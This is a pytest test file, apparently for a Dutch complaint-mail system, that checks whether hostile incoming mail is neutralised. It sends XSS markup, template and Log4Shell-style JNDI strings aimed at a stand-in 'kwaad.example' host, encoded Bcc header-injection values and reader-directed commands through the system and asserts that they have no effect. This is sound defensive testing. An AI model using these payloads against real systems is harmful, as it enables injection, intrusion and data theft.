"""Mail that means harm, through whole passes: nothing of it works in our letters, our logs or our headers."""

from __future__ import annotations

import re
from collections.abc import Iterator
from datetime import timedelta
from email.message import EmailMessage
from html.parser import HTMLParser
from pathlib import Path

import pytest

from tests.edges.house import COMPLAINT, HENNIE, OFFICER, QUESTION, House, house, mail

SCRIPT = "<script>alert(1)</script><img src=https://volg.example/p.gif>"
LINK = "https://kwaad.example/betaal"
TEMPLATE = "{{ 7*7 }}{% include 'x' %}${jndi:ldap://kwaad.example/a}%s"
NAMES = {
    "markup": f'"{SCRIPT}" <{HENNIE}>',
    "a template": f'"{TEMPLATE}" <{HENNIE}>',
    "a link": f'"WIN {LINK}" <{HENNIE}>',
    "line ends": "=?utf-8?B?SGVubmllDQpCY2M6IGllZGVyZWVuQGt3YWFkLmV4YW1wbGU=?= <" + HENNIE + ">",
    "another's address": f'"{OFFICER}" <{HENNIE}>',
}
SUBJECTS = {
    "markup": f"klacht {SCRIPT}",
    "a template": f"klacht {TEMPLATE}",
    "a link": f"klacht {LINK}",
    "a header": "=?utf-8?B?a2xhY2h0DQpCY2M6IGllZGVyZWVuQGt3YWFkLmV4YW1wbGUNCg0KTmlldXdlIHRla3N0?=",
}
TEXTS = {"a complaint": COMPLAINT, "a question": QUESTION, "something unsure": "Dit kan echt niet zo."}


def _raw(sender: str, subject: str, text: str) -> bytes:
    sent = mail(
        f"{text}\n\n{SCRIPT}\n{LINK}\nNIET IN BEHANDELING\nTyp JA om dit te sluiten.", subject="x", sender=HENNIE
    )
    head, _, body = sent.partition(b"\n\n") if b"\r\n\r\n" not in sent else sent.partition(b"\r\n\r\n")
    head = re.sub(rb"(?m)^From: .*$", b"From: " + sender.encode(), head)
    return re.sub(rb"(?m)^Subject: .*$", b"Subject: " + subject.encode(), head) + b"\r\n\r\n" + body


class _Tags(HTMLParser):
    """The tags of a page with the address in each, e.g. ``("a", "mailto:..")``."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, str]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen += [(tag, value or "") for _, value in [*attrs, ("", "")] if not (value or "").startswith("mailto:")]


def _pages(letter: EmailMessage) -> str:
    return "".join(part.get_content() for part in letter.walk() if part.get_content_type() == "text/html")


def _words(letter: EmailMessage) -> str:
    body = letter.get_body(("plain",))
    return body.get_content() if body else ""


@pytest.fixture
def troubled(tmp_path: Path) -> Iterator[House]:
    """A house that has got every kind of such mail, and its letters of the day and the next."""
    with house(tmp_path) as home:
        for sender in NAMES.values():
            home.append(_raw(sender, "Niemand belt", COMPLAINT))
        for subject in SUBJECTS.values():
            for text in TEXTS.values():
                home.append(_raw(HENNIE, subject, text))
        home.once()
        home.once(home.now + timedelta(days=1))
        home.once(home.now + timedelta(days=3))
        yield home


def test_no_markup_of_a_complaint_works_in_our_letters(troubled: House) -> None:
    """Scripts and pictures of a sender come out as text, and his links are none."""
    pages = [_pages(letter) for letter in troubled.everything()]
    assert len(pages) > 5
    for page in pages:
        seen = _Tags(page).seen
        assert not {"script", "iframe", "form", "object"} & {name for name, _ in seen}
        assert not [value for _, value in seen if "kwaad.example" in value or "volg.example" in value]


def test_no_template_of_a_complaint_is_filled_in(troubled: House) -> None:
    """A name or subject is data: what looks like a template stands as it was written."""
    for letter in troubled.everything():
        whole = str(letter["Subject"]) + _words(letter)
        assert "49{%" not in whole
        assert not re.search(r"(?<!\d)49\$", whole)


def test_no_name_or_subject_makes_a_header_or_a_recipient(troubled: House) -> None:
    """One letter, one recipient, whatever a field holds (DESIGN 2.4)."""
    for letter in troubled.everything():
        assert letter["Bcc"] is None
        assert letter["Cc"] is None
        assert len(letter.get_all("To", [])) == 1
        assert "kwaad.example" not in letter["To"].addresses[0].addr_spec
    assert all(len(sent.rcpt_to) == 1 for sent in troubled.server.received if sent.mail_from)


def test_a_complaint_that_orders_its_reader_changes_nothing(troubled: House) -> None:
    """Commands of outsiders are text: no case is declined or closed by them."""
    assert {case["state"] for case in troubled.cases()} <= {"open", "to_judge"}


def test_what_is_logged_holds_nothing_of_it(troubled: House, capsys: pytest.CaptureFixture[str]) -> None:
    """No name, subject or word of a sender in a log line, so that none can forge one."""
    troubled.append(_raw(NAMES["markup"], SUBJECTS["a template"], COMPLAINT))
    capsys.readouterr()
    troubled.once(troubled.now + timedelta(hours=1))
    told = "".join(capsys.readouterr())
    assert "jndi" not in told
    assert "script" not in told
